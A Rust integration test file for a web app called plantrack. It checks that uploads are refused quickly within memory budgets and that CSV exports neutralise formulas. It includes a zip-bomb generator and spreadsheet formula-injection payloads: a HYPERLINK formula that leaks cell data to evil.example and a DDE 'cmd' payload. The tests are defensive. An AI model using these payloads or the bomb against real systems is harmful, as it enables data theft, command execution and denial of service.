//! Hostile and oversized files: every upload and import is read within fixed budgets, so a small
//! file that claims or unpacks to something enormous is refused with a message at the file
//! field, quickly, while the rest of the site keeps answering; and what the site writes as CSV is
//! safe to open in a spreadsheet program.

use axum::http::StatusCode;
use flate2::{Compress, Compression, FlushCompress};
use plantrack::domain::plan::Role;
use scraper::{Html, Selector};
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use crate::harness::{Client, DEFAULT_PLAN, Serve, Served, TestDb};

/// A ZIP entry: its name, its data as stored, the method (0 stored, 8 deflated), its CRC-32
/// and the size it unpacks to.
struct Entry {
    name: &'static str,
    data: Vec<u8>,
    method: u16,
    crc: u32,
    size: u32,
}

/// An entry deflated, as spreadsheet programs write them.
fn deflated(name: &'static str, bytes: &[u8]) -> Entry {
    let mut crc = flate2::Crc::new();
    crc.update(bytes);
    Entry {
        name,
        data: deflate(bytes, true),
        method: 8,
        crc: crc.sum(),
        size: bytes.len() as u32,
    }
}

/// A ZIP archive written field by field, as the format describes it.
fn zip(entries: &[Entry]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut central = Vec::new();
    for e in entries {
        let offset = out.len() as u32;
        let head = |signature: u32, central: bool| {
            let mut h = Vec::new();
            h.extend_from_slice(&signature.to_le_bytes());
            if central {
                h.extend_from_slice(&20u16.to_le_bytes()); // made by
            }
            h.extend_from_slice(&20u16.to_le_bytes()); // needed to extract
            h.extend_from_slice(&0u16.to_le_bytes()); // flags
            h.extend_from_slice(&e.method.to_le_bytes());
            h.extend_from_slice(&0u32.to_le_bytes()); // time and date
            h.extend_from_slice(&e.crc.to_le_bytes());
            h.extend_from_slice(&(e.data.len() as u32).to_le_bytes());
            h.extend_from_slice(&e.size.to_le_bytes());
            h.extend_from_slice(&(e.name.len() as u16).to_le_bytes());
            h.extend_from_slice(&0u16.to_le_bytes()); // extra field
            if central {
                h.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
                h.extend_from_slice(&0u32.to_le_bytes()); // external attributes
                h.extend_from_slice(&offset.to_le_bytes());
            }
            h.extend_from_slice(e.name.as_bytes());
            h
        };
        out.extend(head(0x0403_4b50, false));
        out.extend_from_slice(&e.data);
        central.extend(head(0x0201_4b50, true));
    }
    let at = out.len() as u32;
    out.extend_from_slice(&central);
    out.extend_from_slice(&0x0605_4b50u32.to_le_bytes());
    out.extend_from_slice(&[0; 4]); // disks
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
    out.extend_from_slice(&(central.len() as u32).to_le_bytes());
    out.extend_from_slice(&at.to_le_bytes());
    out.extend_from_slice(&0u16.to_le_bytes());
    out
}

/// A workbook whose one sheet, `figures`, is the given entry.
fn workbook(sheet: Entry) -> Vec<u8> {
    zip(&[
        deflated(
            "[Content_Types].xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        deflated(
            "_rels/.rels",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        deflated(
            "xl/workbook.xml",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="figures" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        deflated(
            "xl/_rels/workbook.xml.rels",
            br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
        sheet,
    ])
}

const SHEET_HEAD: &str = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">"#;

fn sheet_xml(dimension: &str, rows: &str) -> String {
    format!(
        r#"{SHEET_HEAD}<dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>"#
    )
}

/// Raw deflate of `bytes`, ending at a byte boundary with the compressor's history cleared (a
/// full flush), so that copies of it can follow one another in one stream; or, with `last`,
/// ending the stream.
fn deflate(bytes: &[u8], last: bool) -> Vec<u8> {
    let mut c = Compress::new(Compression::best(), false);
    let mut out = Vec::with_capacity(bytes.len() / 2 + 1024);
    let flush = if last {
        FlushCompress::Finish
    } else {
        FlushCompress::Full
    };
    c.compress_vec(bytes, &mut out, flush).unwrap();
    assert_eq!(c.total_in() as usize, bytes.len());
    out
}

/// The sheet A1 and XFD1048576: two cells, the corners of the largest sheet there is.
fn two_cells() -> Vec<u8> {
    let xml = sheet_xml(
        "A1:XFD1048576",
        r#"<row r="1"><c r="A1" t="inlineStr"><is><t>plan</t></is></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#,
    );
    workbook(deflated("xl/worksheets/sheet1.xml", xml.as_bytes()))
}

/// A sheet of 300 MiB of zeros in one cell, deflated to well under 1 MiB.
fn zip_bomb() -> Vec<u8> {
    const MIB: usize = 1 << 20;
    const COPIES: usize = 300;
    let head = format!(r#"{SHEET_HEAD}<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>"#);
    let tail = "</t></is></c></row></sheetData></worksheet>";
    let zeros = vec![b'0'; MIB];
    let block = deflate(&zeros, false);
    let mut data = deflate(head.as_bytes(), false);
    let mut crc = flate2::Crc::new();
    crc.update(head.as_bytes());
    let mut zeros_crc = flate2::Crc::new();
    zeros_crc.update(&zeros);
    for _ in 0..COPIES {
        data.extend_from_slice(&block);
        crc.combine(&zeros_crc);
    }
    data.extend(deflate(tail.as_bytes(), true));
    crc.update(tail.as_bytes());
    let size = head.len() + COPIES * MIB + tail.len();
    // It really is that: inflating the first part gives the head and zeros.
    let mut inflated = vec![0; 4096];
    let n = flate2::read::DeflateDecoder::new(&data[..])
        .read(&mut inflated)
        .unwrap();
    assert!(n > 0 && inflated[..n].starts_with(&head.as_bytes()[..n.min(head.len())]));
    workbook(Entry {
        name: "xl/worksheets/sheet1.xml",
        data,
        method: 8,
        crc: crc.sum(),
        size: size as u32,
    })
}

/// A sheet declaring A1:Z1048576, with a header and a few figures in it.
fn declared_whole_columns() -> Vec<u8> {
    let mut rows = String::from(r#"<row r="1">"#);
    for (i, name) in [
        "plan",
        "indicator",
        "year",
        "kind",
        "value",
        "state",
        "source",
        "note",
    ]
    .iter()
    .enumerate()
    {
        let col = (b'A' + i as u8) as char;
        rows.push_str(&format!(
            r#"<c r="{col}1" t="inlineStr"><is><t>{name}</t></is></c>"#
        ));
    }
    rows.push_str("</row>");
    for r in 2..6 {
        rows.push_str(&format!(
            r#"<row r="{r}"><c r="E{r}"><v>2.{r}</v></c></row>"#
        ));
    }
    let xml = sheet_xml("A1:Z1048576", &rows);
    workbook(deflated("xl/worksheets/sheet1.xml", xml.as_bytes()))
}

/// What the tests ask of a running `plantrack serve`.
trait Site {
    fn peak_rss_mib(&self) -> u64;
    fn request(&self, head: &str, body: &[u8]) -> (u16, String);
    fn get(&self, path: &str) -> (u16, String);
    fn upload(&self, who: &Client, file_name: &str, bytes: &[u8]) -> (u16, String);
}

impl Site for Served {
    /// The process's peak resident memory so far, in MiB (`VmHWM`).
    fn peak_rss_mib(&self) -> u64 {
        let status = std::fs::read_to_string(format!("/proc/{}/status", self.pid())).unwrap();
        let kib: u64 = status
            .lines()
            .find_map(|l| l.strip_prefix("VmHWM:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .expect("VmHWM in /proc/PID/status");
        kib / 1024
    }

    /// One request on a connection of its own: the status and the body.
    fn request(&self, head: &str, body: &[u8]) -> (u16, String) {
        let Ok(mut stream) = TcpStream::connect(("127.0.0.1", self.port)) else {
            return (0, String::new());
        };
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .unwrap();
        if stream.write_all(head.as_bytes()).is_err() || stream.write_all(body).is_err() {
            return (0, String::new());
        }
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        let answer = String::from_utf8_lossy(&answer).into_owned();
        let status = answer
            .split_whitespace()
            .nth(1)
            .and_then(|s| s.parse().ok())
            .unwrap_or(0);
        let body = answer
            .split_once("\r\n\r\n")
            .map_or(String::new(), |(_, b)| b.to_owned());
        (status, body)
    }

    fn get(&self, path: &str) -> (u16, String) {
        self.request(
            &format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n"),
            b"",
        )
    }

    /// Posts `bytes` as the upload form does, signed in as `who`.
    fn upload(&self, who: &Client, file_name: &str, bytes: &[u8]) -> (u16, String) {
        let boundary = "plantrack-hostile-boundary-1q2w3e";
        let mut body = format!(
            "--{boundary}\r\nContent-Disposition: form-data; name=\"csrf\"\r\n\r\n{}\r\n--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file_name}\"\r\nContent-Type: application/octet-stream\r\n\r\n",
            who.csrf
        )
        .into_bytes();
        body.extend_from_slice(bytes);
        body.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
        let head = format!(
            "POST /plans/{DEFAULT_PLAN}/data/upload HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nCookie: {}\r\nContent-Type: multipart/form-data; boundary={boundary}\r\nContent-Length: {}\r\n\r\n",
            who.cookie.as_deref().unwrap(),
            body.len()
        );
        self.request(&head, &body)
    }
}

/// The message at the file input of a page.
fn file_error(body: &str) -> String {
    Html::parse_document(body)
        .select(&Selector::parse("#file-error").unwrap())
        .next()
        .map(|e| e.text().collect::<String>().trim().to_owned())
        .unwrap_or_default()
}

async fn analyst(db: &TestDb) -> Client {
    let mut ana = db.signed_in("ana", Role::Analyst).await;
    ana.get(&format!("/plans/{DEFAULT_PLAN}/data")).await;
    ana
}

#[tokio::test]
async fn hostile_files_are_refused_at_the_file_field_quickly_in_little_memory_while_the_site_answers()
 {
    let db = TestDb::seeded().await;
    let ana = analyst(&db).await;
    let server = Serve::on(&db)
        .answering_within(Duration::from_secs(60))
        .start();
    let million_rows = "1\n".repeat(1_000_000);
    let files: [(&str, &str, Vec<u8>, &str); 4] = [
        (
            "two cells, A1 and XFD1048576",
            "figures.xlsx",
            two_cells(),
            "declares 1,048,576 rows and 16,384 columns",
        ),
        (
            "a zip bomb",
            "figures.xlsx",
            zip_bomb(),
            "unpacks to more than 64 MiB",
        ),
        (
            "a sheet declaring A1:Z1048576",
            "figures.xlsx",
            declared_whole_columns(),
            "at most 100,000 rows and 50 columns",
        ),
        (
            "a CSV of a million rows",
            "figures.csv",
            million_rows.into_bytes(),
            "more than 100,000 rows",
        ),
    ];
    assert!(files[0].2.len() < 2048, "{}", files[0].2.len());
    assert!(files[1].2.len() < 1 << 20, "{}", files[1].2.len());
    assert!(files[2].2.len() < 2048, "{}", files[2].2.len());
    // Two analysts upload every file at once, so that two files are being read at a time,
    // while /healthz is asked throughout on connections of its own. The machine running the
    // tests is busy with other tests too: the slowest answer of the best of three rounds counts.
    let mut slowest_health = Duration::MAX;
    for _round in 0..3 {
        let uploading = AtomicBool::new(true);
        let slowest = std::thread::scope(|s| {
            let watcher = s.spawn(|| {
                let mut slowest = Duration::ZERO;
                while uploading.load(Ordering::SeqCst) {
                    let started = Instant::now();
                    let (status, _) = server.get("/healthz");
                    slowest = slowest.max(started.elapsed());
                    assert_eq!(status, 200, "/healthz answers while files are read");
                    std::thread::sleep(Duration::from_millis(5));
                }
                slowest
            });
            let uploaders: Vec<_> = (0..2)
                .map(|_| {
                    s.spawn(|| {
                        for (what, name, bytes, limit) in &files {
                            let started = Instant::now();
                            let (status, body) = server.upload(&ana, name, bytes);
                            let took = started.elapsed();
                            assert_eq!(status, 422, "{what}: {body:.400}");
                            let message = file_error(&body);
                            assert!(message.contains(limit), "{what}: {message:?}");
                            assert!(took < Duration::from_secs(2), "{what}: {took:?}");
                        }
                    })
                })
                .collect();
            for u in uploaders {
                u.join().unwrap();
            }
            uploading.store(false, Ordering::SeqCst);
            watcher.join().unwrap()
        });
        slowest_health = slowest_health.min(slowest);
        if slowest_health < Duration::from_millis(100) {
            break;
        }
    }
    assert!(
        slowest_health < Duration::from_millis(100),
        "/healthz took {slowest_health:?}"
    );
    // A JSON document of nothing but a 9 MiB array takes no memory to refuse either.
    let junk = format!(
        "{{\"format\":\"plantrack-export\",\"version\":1,\"junk\":[{}0]}}",
        "0,".repeat(9 << 19)
    );
    let (status, _) = server.upload(&ana, "figures.json", junk.as_bytes());
    assert_eq!(status, 422);
    let peak = server.peak_rss_mib();
    assert!(peak < 200, "peak memory {peak} MiB");
    assert_eq!(server.get("/healthz").0, 200, "still serving");
}

#[tokio::test]
async fn a_refusal_is_in_the_readers_language_and_the_import_command_gives_the_same_message() {
    let db = TestDb::seeded().await;
    let mut ana = analyst(&db).await;
    let page = ana
        .post_file(
            &format!("/plans/{DEFAULT_PLAN}/data/upload"),
            "figures.xlsx",
            &two_cells(),
        )
        .await;
    assert_eq!(
        page.status,
        StatusCode::UNPROCESSABLE_ENTITY,
        "{}",
        page.body
    );
    let english = page.text("#file-error");
    assert!(english.contains("1,048,576 rows"), "{english}");
    let switched = ana.get("/language?set=zh&next=/").await;
    assert_eq!(switched.status, StatusCode::SEE_OTHER);
    ana.get(&format!("/plans/{DEFAULT_PLAN}/data")).await;
    let page = ana
        .post_file(
            &format!("/plans/{DEFAULT_PLAN}/data/upload"),
            "figures.xlsx",
            &two_cells(),
        )
        .await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    let chinese = page.text("#file-error");
    assert!(chinese.contains("工作表声明有1,048,576行"), "{chinese}");

    let mut web = db.signed_in("ben", Role::Analyst).await;
    web.get(&format!("/plans/{DEFAULT_PLAN}/data")).await;
    let dir = std::env::temp_dir().join(format!("plantrack-hostile-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    for (name, bytes) in [
        ("two-cells.xlsx", two_cells()),
        ("rows.csv", "1\n".repeat(1_000_000).into_bytes()),
    ] {
        let path = dir.join(name);
        std::fs::write(&path, &bytes).unwrap();
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_plantrack"))
            .args(["import", path.to_str().unwrap()])
            .env("DATABASE_URL", db.url())
            .output()
            .unwrap();
        assert!(!out.status.success(), "{name}");
        let said = String::from_utf8_lossy(&out.stderr);
        let page = web
            .post_file(&format!("/plans/{DEFAULT_PLAN}/data/upload"), name, &bytes)
            .await;
        let message = page.text("#file-error");
        let message = message.trim_start_matches('⚠').trim();
        assert!(!message.is_empty(), "{name}: {}", page.body);
        assert!(said.contains(message), "{name}: {said} / {message}");
    }
    std::fs::remove_dir_all(&dir).ok();
}

#[tokio::test]
async fn a_formula_in_a_published_source_or_note_is_text_in_the_csv_exact_in_json_and_uploads_back_unchanged()
 {
    let db = TestDb::seeded().await;
    let source = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
    let note = "+cmd|' /C calc'!A0";
    let commentary = "@SUM(1+1)";
    let done = sqlx::query(
        "update observation set source = $1, note = $2, commentary = $3
         where state = 'published' and kind = 'actual' and year = 2022 and indicator_id =
             (select indicator_id from indicator join plan using (plan_id)
              where is_default and code = 'rd-intensity')",
    )
    .bind(source)
    .bind(note)
    .bind(commentary)
    .execute(&db.pool)
    .await
    .unwrap();
    assert_eq!(done.rows_affected(), 1);
    let mut ana = analyst(&db).await;
    let csv = ana
        .download(&format!("/plans/{DEFAULT_PLAN}/data/figures.csv"))
        .await;
    assert_eq!(csv.status, StatusCode::OK);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(&csv.bytes[3..]);
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    for wanted in [source, note, commentary] {
        assert!(
            cells.contains(&format!("'{wanted}")),
            "{wanted} is written as text"
        );
    }
    for cell in &cells {
        if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert!(
                cell.parse::<f64>().is_ok(),
                "only numbers may start like a formula: {cell}"
            );
        }
    }
    let json = ana
        .download(&format!("/plans/{DEFAULT_PLAN}/data/figures.json"))
        .await;
    let json = String::from_utf8(json.bytes).unwrap();
    assert!(
        json.contains(&serde_json::to_string(source).unwrap()),
        "exact in JSON"
    );
    assert!(!json.contains("'=HYPERLINK"));

    let page = ana
        .post_file(
            &format!("/plans/{DEFAULT_PLAN}/data/upload"),
            "figures.csv",
            &csv.bytes,
        )
        .await;
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    assert!(page.text(".notice").contains("nothing to save"));
    let statuses = page.html();
    let statuses: Vec<&str> = statuses
        .select(&Selector::parse("table.preview tbody tr").unwrap())
        .filter_map(|r| r.value().attr("data-status"))
        .collect();
    assert!(statuses.len() >= 20);
    assert!(statuses.iter().all(|s| *s == "unchanged"), "{statuses:?}");
}

#[tokio::test]
async fn a_huge_upload_file_name_is_kept_short_in_the_preview_and_the_history() {
    let db = TestDb::seeded().await;
    let mut ana = analyst(&db).await;
    let name = format!("{}.csv", "n".repeat(500_000));
    let file = format!(
        "plan,indicator,year,kind,value,state,source,note\r\n{DEFAULT_PLAN},rd-intensity,2024,actual,2.55,draft,Bulletin 2024,\r\n"
    );
    let page = ana
        .post_file(
            &format!("/plans/{DEFAULT_PLAN}/data/upload"),
            &name,
            file.as_bytes(),
        )
        .await;
    assert_eq!(page.status, StatusCode::SEE_OTHER, "{:.300}", page.body);
    let kept: String = sqlx::query_scalar("select file_name from upload")
        .fetch_one(&db.pool)
        .await
        .unwrap();
    assert!(kept.chars().count() <= 200, "{}", kept.len());
    assert!(kept.ends_with("n.csv"), "the extension stays: {kept}");
    let saved = ana.post(&format!("{}/confirm", page.location), &[]).await;
    assert_eq!(saved.status, StatusCode::SEE_OTHER, "{:.300}", saved.body);
    let longest: i32 = sqlx::query_scalar("select max(length(reason)) from revision")
        .fetch_one(&db.pool)
        .await
        .unwrap();
    assert!(longest < 300, "{longest}");
}
